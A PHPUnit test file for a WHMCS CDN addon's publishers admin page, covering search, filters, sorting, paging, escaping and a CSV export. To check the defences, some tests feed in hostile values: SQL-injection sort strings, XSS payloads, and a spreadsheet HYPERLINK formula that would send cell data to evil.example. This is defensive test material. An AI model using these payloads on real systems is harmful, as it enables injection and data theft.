<?php
/**
 * Show Synchronized Publishers at any size: search, filters, whitelisted sort,
 * paging with a total, links into WHMCS, one username form, and the streamed CSV export of the
 * current filter (its content, no password, the formula guard, bounded memory). Before, the
 * page read the first 5,000 records and hid the rest without a word.
 */

declare(strict_types=1);

namespace AflexiAddonTests;

require_once __DIR__ . '/support/PublisherRows.php';

use AflexiAddonTests\Support\AddonTestCase;
use AflexiAddonTests\Support\PublisherRows;
use WHMCS\Database\Capsule;
use WHMCS\Module\Addon\AflexiCdn\PublisherExport;
use WHMCS\Module\Addon\AflexiCdn\PublisherFilter;
use WHMCS\Module\Addon\AflexiCdn\Schema;
use WHMCS\Module\Addon\AflexiCdn\View;
use WhmcsHarness\AddonPage;
use WhmcsHarness\Fixtures;

final class PublishersPageTest extends AddonTestCase
{
    public function testSearchFindsByUsernameClientNameEmailAndServiceId(): void
    {
        PublisherRows::fill(120);
        self::assertSame(11, $this->total(['q' => 'pub7']), 'pub7 and pub70..pub79');
        self::assertSame([100042], $this->services(['q' => 'Bench Client 42']), 'the client name');
        self::assertSame([100099], $this->services(['q' => 'bench99@example']), 'the e-mail');
        self::assertSame([100005], $this->services(['q' => '100005']), 'the service id');
        self::assertSame([100005], $this->services(['q' => '#100005']), 'the service id as the page shows it');
        self::assertSame(0, $this->total(['q' => '%']), 'a LIKE wildcard is searched as text');
        self::assertStringContainsString('No publisher matches', $this->page(['q' => 'nobody-has-this']));
    }

    public function testSearchFindsAClientNameWhmcsStoredHtmlEncoded(): void
    {
        $client = Fixtures::client(['firstname' => 'Seán', 'lastname' => "O'Brien & Co"]);
        $this->insertRecord(['client_id' => $client, 'service_id' => 7, 'username' => 'obrien']);
        self::assertSame([7], $this->services(['q' => "O'Brien & Co"]));
    }

    public function testEachFilterAndTheirCombination(): void
    {
        PublisherRows::fill(120);
        self::assertSame(120, $this->total([]));
        self::assertSame(12, $this->total(['status' => 'SUSPENDED']));
        self::assertSame(108, $this->total(['status' => 'ACTIVE']));
        self::assertSame(40, $this->total(['package' => 'gold']));
        self::assertSame(2, $this->total(['error' => 'yes']), 'pub49 and pub99');
        self::assertSame(118, $this->total(['error' => 'no']));
        self::assertSame(120, $this->total(['error' => 'maybe']), 'an unknown choice filters nothing');
        self::assertSame(0, $this->total(['package' => 'gold' . str_repeat('x', 300)]), 'a value longer than the column is compared whole: it matches nothing, no error');
        // i % 10 == 9 and i % 3 == 1 (gold): 19, 49, 79, 109, by username (pub109 before pub19).
        self::assertSame([100109, 100019, 100049, 100079], $this->services(['status' => 'SUSPENDED', 'package' => 'gold']));
        self::assertSame([100049], $this->services(['status' => 'SUSPENDED', 'package' => 'gold', 'error' => 'yes', 'q' => 'pub']));
        $html = $this->page([]);
        self::assertStringContainsString('<option value="SUSPENDED">SUSPENDED</option>', $html, 'the statuses offered');
        self::assertStringContainsString('<option value="silver">silver</option>', $html, 'the packages offered');
    }

    public function testTheSortIsWhitelistedAndStable(): void
    {
        PublisherRows::fill(30);
        self::assertSame([100000, 100001, 100010], array_slice($this->services([]), 0, 3), 'by username: pub0, pub1, pub10');
        self::assertSame([100029, 100028], array_slice($this->services(['sort' => 'service', 'dir' => 'desc']), 0, 2));
        self::assertSame([100009, 100008], array_slice($this->services(['sort' => 'client', 'dir' => 'desc']), 0, 2), 'Client 9 last by name');
        self::assertSame([100000, 100003, 100006], array_slice($this->services(['sort' => 'package']), 0, 3), 'bronze first, by service id within');
        $default = $this->services([]);
        foreach (['r.password', 'username; drop table tblclients', 'username desc, (select sleep(5))', '1', 'password'] as $hostile) {
            self::assertSame($default, $this->services(['sort' => $hostile]), "sort=$hostile is the default sort");
        }
        self::assertSame(30, Capsule::table('tblclients')->count());
        self::assertStringContainsString('sort=client&amp;dir=desc', $this->page(['sort' => 'client']), 'the current column sorts the other way');
    }

    public function testPagingHasATotalAndItsEdges(): void
    {
        PublisherRows::fill(120);
        $first = $this->page(['size' => '25']);
        self::assertStringContainsString('Publishers 1 to 25 of 120 (page 1 of 5).', $first);
        self::assertCount(25, $this->services(['size' => '25']));
        self::assertStringContainsString('rel="next"', $first);
        self::assertStringNotContainsString('rel="prev"', $first);

        $last = $this->page(['size' => '25', 'page' => '5']);
        self::assertStringContainsString('Publishers 101 to 120 of 120 (page 5 of 5).', $last);
        self::assertCount(20, $this->services(['size' => '25', 'page' => '5']));
        self::assertStringNotContainsString('rel="next"', $last);
        self::assertStringNotContainsString('alert-warning', $last);

        $beyond = $this->page(['size' => '25', 'page' => '99']);
        self::assertStringContainsString('There is no page 99; the last page (5) is shown.', $beyond);
        self::assertSame($this->services(['size' => '25', 'page' => '5']), $this->services(['size' => '25', 'page' => '99']));

        foreach (['0', '-1', 'abc', '99999999999999999999'] as $odd) {
            self::assertSame($this->services(['size' => '25']), $this->services(['size' => '25', 'page' => $odd]), "page=$odd is page 1");
        }
        self::assertCount(50, $this->services(['size' => '7']), 'a size not offered is the default, 50');
        self::assertCount(120, $this->services(['size' => '500']));
        // Filters are kept on the paging links.
        self::assertStringContainsString('status=ACTIVE&amp;size=25&amp;page=2', $this->page(['status' => 'ACTIVE', 'size' => '25']));
    }

    public function testNoRecordsAndMoreThanTheOldCap(): void
    {
        self::assertStringContainsString('No publisher has been synchronized yet.', $this->page([]));
        PublisherRows::fill(5003);
        $this->insertRecord(['client_id' => 0, 'service_id' => 3, 'username' => '', 'status' => '']);
        self::assertSame(5004, $this->total([]), 'a record not linked to a publisher yet is listed too');
        self::assertSame([100000 + 5002], $this->services(['q' => 'pub5002']), 'record 5,003 is found');
    }

    public function testEachRowLinksToTheClientAndTheServiceAndShowsTheLocalUsername(): void
    {
        [$client] = PublisherRows::fill(1);
        $html = $this->page([]);
        self::assertStringContainsString("<a href=\"clientssummary.php?userid=$client\">Bench Client 0</a>", $html);
        self::assertStringContainsString("<a href=\"clientsservices.php?userid=$client&amp;id=100000\">#100000</a>", $html);
        self::assertStringContainsString('<td>pub0</td>', $html);
    }

    public function testTheUsernameHelperShowsTheLocalPartWithTheFullFormAsItsTooltip(): void
    {
        $view = new View([], 'addonmodules.php?module=aflexi_cdn');
        self::assertSame('<span class="aflexi-username" title="zoeweb/1">zoeweb</span>', (string) $view->username('zoeweb/1'));
        self::assertSame('zoeweb', (string) $view->username('zoeweb'));
        self::assertSame('<span class="aflexi-username" title="&lt;b&gt;&quot;x/3">&lt;b&gt;&quot;x</span>', (string) $view->username('<b>"x/3'));
    }

    public function testThePreviewAndThePublishersPageShowTheSameUsernameForm(): void
    {
        $product = $this->product();
        $this->activeService($product, ['username' => 'sameform']);
        // The plan names the publisher in the full Aflexi form: the preview shows it as the tooltip only.
        self::assertMatchesRegularExpression('~<td><span class="aflexi-username" title="sameform/\d+">sameform</span></td>~', $this->save([$product]), 'the preview');
        $this->saveAndApply([$product]);
        self::assertStringContainsString('<td>sameform</td>', $this->page([]), 'the publishers page');
        self::assertStringNotContainsString('sameform/', $this->page([]));
    }

    public function testHostileNamesAreEscaped(): void
    {
        $client = Fixtures::client(['firstname' => '<script>alert(1)</script>', 'lastname' => '"><img src=x onerror=alert(2)>']);
        $this->insertRecord(['client_id' => $client, 'service_id' => 9, 'username' => '<b>u</b>', 'package' => '<i>p</i>',
            'last_error' => '<svg onload=alert(3)>']);
        foreach ([$this->page([]), $this->page(['q' => '<script>']), $this->page(['package' => '<i>p</i>'])] as $html) {
            self::assertStringNotContainsString('<script>alert', $html);
            self::assertStringNotContainsString('<img src=x', $html);
            self::assertStringNotContainsString('<svg', $html);
            self::assertStringNotContainsString('<b>u', $html);
            self::assertStringNotContainsString('<i>p', $html);
        }
        $html = $this->page(['q' => '"><script>']);
        self::assertStringContainsString('value="&quot;&gt;&lt;script&gt;"', $html, 'the search echoed escaped');
    }

    public function testTheExportHasTheFilteredRecordsWithoutPasswordsAndGuardsFormulas(): void
    {
        PublisherRows::fill(60);
        $lines = $this->export(['status' => 'SUSPENDED', 'page' => '3', 'size' => '25']);
        self::assertSame(PublisherExport::HEADER, $lines[0]);
        self::assertCount(6 + 1, $lines, 'every SUSPENDED record (9, 19, ... 59), not one page');
        self::assertSame(['pub49', 'Bench Client 49', $lines[5][2], 'bench49@example.com', '100049', 'gold', 'SUSPENDED'],
            array_slice($lines[5], 0, 7));
        self::assertSame('API timeout on pub49', $lines[5][8]);

        $encrypted = (string) Capsule::table(Schema::PUBLISHERS)->value('password');
        $client = Fixtures::client(['firstname' => '=HYPERLINK("http://evil.example/?"&A1)', 'lastname' => '', 'companyname' => '',
            'email' => '@evil.example']);
        $this->insertRecord(['client_id' => $client, 'service_id' => 5, 'username' => '+cmd', 'package' => '-2+3', 'last_error' => "\tx"]);
        $csv = $this->exportText(['q' => 'cmd']);
        self::assertStringNotContainsString(PublisherRows::PASSWORD, $this->exportText([]));
        self::assertStringNotContainsString($encrypted, $this->exportText([]));
        $row = str_getcsv(explode("\n", trim($csv))[1], ',', '"', '');
        self::assertSame(["'+cmd", "'=HYPERLINK(\"http://evil.example/?\"&A1)", (string) $client, "'@evil.example", '5', "'-2+3"], array_slice($row, 0, 6));
        self::assertSame("'\tx", $row[8]);
    }

    public function testTheExportStreamsInBoundedMemory(): void
    {
        $n = 20000;
        PublisherRows::fill($n);
        $file = tempnam(sys_get_temp_dir(), 'aflexi-export');
        $out = fopen($file, 'wb');
        gc_collect_cycles();
        memory_reset_peak_usage();
        $base = memory_get_usage();
        $written = PublisherExport::write($out, PublisherFilter::fromInput([]));
        $grew = memory_get_peak_usage() - $base;
        fclose($out);
        self::assertSame($n, $written);
        $lines = file($file, FILE_IGNORE_NEW_LINES);
        unlink($file);
        self::assertCount($n + 1, $lines);
        self::assertStringStartsWith('pub19999,"Bench Client 19999"', $lines[$n]);
        // One chunk of 1,000 rows takes about 2 MB; all 20,000 at once took about 30 MB.
        self::assertLessThan(8 * 1048576, $grew, sprintf('the export grew the memory by %.1f MB', $grew / 1048576));
    }

    public function testTheUpgradeAddsThePageIndexesToAnOlderTable(): void
    {
        Capsule::schema()->table(Schema::PUBLISHERS, static function ($t): void {
            foreach (Schema::PUBLISHER_INDEXES as $columns) {
                $t->dropIndex($columns);
            }
        });
        self::assertSame([], $this->pageIndexes());
        aflexi_cdn_upgrade(['version' => '1.0.0']);
        self::assertCount(count(Schema::PUBLISHER_INDEXES), $this->pageIndexes());
        self::assertSame([], Schema::addPublisherIndexes(), 'a second upgrade adds nothing');
        aflexi_cdn_upgrade(['version' => '1.1.0']);
    }

    /** The publishers page for these query values. */
    private function page(array $query): string
    {
        return AddonPage::get(self::MODULE, ['action' => 'publishers'] + $query);
    }

    /** The total the page says. */
    private function total(array $query): int
    {
        $html = $this->page($query);
        if (preg_match('/data-total="(\d+)"/', $html, $m) === 1) {
            return (int) $m[1];
        }
        self::assertStringContainsString('alert-info', $html, 'no count: the page says none matches');
        return 0;
    }

    /** @return list<int> the service ids of the page's rows, in order */
    private function services(array $query): array
    {
        preg_match_all('/clientsservices\.php\?userid=\d+&amp;id=(\d+)/', $this->page($query), $m);
        return array_map('intval', $m[1]);
    }

    /** @return list<list<string>> the export's CSV rows */
    private function export(array $query): array
    {
        return array_map(static fn (string $line): array => str_getcsv($line, ',', '"', ''), explode("\n", trim($this->exportText($query))));
    }

    private function exportText(array $query): string
    {
        $out = fopen('php://memory', 'w+b');
        PublisherExport::write($out, PublisherFilter::fromInput($query));
        rewind($out);
        return (string) stream_get_contents($out);
    }

    private function insertRecord(array $fields): void
    {
        Capsule::table(Schema::PUBLISHERS)->insert($fields + ['package' => 'gold', 'status' => 'ACTIVE', 'last_sync' => date('Y-m-d H:i:s')]);
    }

    /** @return list<string> the page's indexes the table has */
    private function pageIndexes(): array
    {
        $names = array_map(static fn (object $r): string => (string) $r->Key_name, Capsule::select('show index from ' . Schema::PUBLISHERS));
        $wanted = array_map(static fn (array $c): string => Schema::PUBLISHERS . '_' . implode('_', $c) . '_index', Schema::PUBLISHER_INDEXES);
        return array_values(array_intersect($wanted, $names));
    }
}
